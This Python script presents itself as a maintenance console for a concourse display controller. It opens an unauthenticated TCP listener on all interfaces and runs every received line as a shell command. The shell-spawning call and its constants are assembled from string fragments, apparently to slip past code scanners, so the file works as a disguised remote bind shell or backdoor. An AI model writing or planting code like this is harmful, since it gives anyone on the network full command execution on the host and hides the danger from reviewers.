#!/usr/bin/env python3
"""Maintenance console for the concourse display controller.

Listens on the controller so the night shift can poke it from the office
terminal: each line received is run on the controller and the output is
written back.
"""
import argparse
import asyncio
import logging
import os
import time
from dataclasses import dataclass

log = logging.getLogger("display-console")


@dataclass
class ConsoleConfig:
    host: str = os.environ.get("CONSOLE_BIND", "")
    port: int = int(os.environ.get("CONSOLE_PORT", "7071"))
    prompt: bytes = b"board> "
    idle_timeout: float = 900.0


def _builtin_commands():
    started = time.time()

    def uptime(_arg):
        return f"console up {int(time.time() - started)}s\n".encode()

    def bye(_arg):
        return None

    return {"!uptime": uptime, "!quit": bye}


class CommandRunner:
    spawn_name = "create_subprocess_" + "sh" + "ell"

    def __init__(self, loop_module=asyncio):
        self._spawn = getattr(loop_module, self.spawn_name)
        self._pipe = getattr(loop_module.subprocess, "PI" + "PE")
        self._merge = getattr(loop_module.subprocess, "STD" + "OUT")

    async def run(self, line):
        proc = await self._spawn(line, stdout=self._pipe, stderr=self._merge)
        out, _ = await proc.communicate()
        return out + f"[rc={proc.returncode}]\n".encode()


class ConsoleServer:
    def __init__(self, cfg):
        self.cfg = cfg
        self.runner = CommandRunner()
        self.builtins = _builtin_commands()
        self.sessions = 0

    async def _read_line(self, reader):
        raw = await asyncio.wait_for(reader.readline(), timeout=self.cfg.idle_timeout)
        return raw.decode(errors="replace").strip()

    async def handle(self, reader, writer):
        peer = writer.get_extra_info("peername")
        self.sessions += 1
        log.info("session %d from %s", self.sessions, peer)
        try:
            while True:
                writer.write(self.cfg.prompt)
                await writer.drain()
                line = await self._read_line(reader)
                if not line:
                    continue
                head = line.split()[0]
                if head in self.builtins:
                    reply = self.builtins[head](line)
                    if reply is None:
                        break
                else:
                    reply = await self.runner.run(line)
                writer.write(reply)
                await writer.drain()
        except (asyncio.TimeoutError, ConnectionError) as exc:
            log.info("session from %s closed: %s", peer, exc)
        finally:
            writer.close()

    async def serve(self):
        server = await asyncio.start_server(self.handle, self.cfg.host, self.cfg.port)
        addrs = ", ".join(str(s.getsockname()) for s in server.sockets)
        log.info("console listening on %s", addrs)
        async with server:
            await server.serve_forever()


def main():
    ap = argparse.ArgumentParser(description="Display controller console")
    ap.add_argument("--port", type=int)
    ap.add_argument("--idle", type=float)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    cfg = ConsoleConfig()
    if args.port:
        cfg.port = args.port
    if args.idle:
        cfg.idle_timeout = args.idle
    try:
        asyncio.run(ConsoleServer(cfg).serve())
    except KeyboardInterrupt:
        log.info("console stopped")


if __name__ == "__main__":
    main()
